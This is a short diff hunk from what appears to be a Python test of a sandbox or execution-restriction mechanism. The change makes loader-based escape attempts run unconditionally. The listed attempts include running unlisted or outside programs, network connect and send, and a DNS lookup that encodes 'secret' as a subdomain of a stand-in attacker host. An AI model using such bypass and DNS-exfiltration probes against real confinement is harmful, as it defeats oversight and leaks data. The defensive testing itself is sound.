@@ -90,7 +90,7 @@ for attempt in (
     lambda: run(UNLISTED, MARK),
     lambda: run(f"{OUTSIDE}/program"),
     by_a_copy,
-    *(lambda loader=loader: run(loader, UNLISTED, MARK) for loader in LOADERS if "@LOADER@" == "tried"),
+    *(lambda loader=loader: run(loader, UNLISTED, MARK) for loader in LOADERS),
     connect,
     send,
     lambda: socket.getaddrinfo("c2VjcmV0.attacker.invalid", 80),
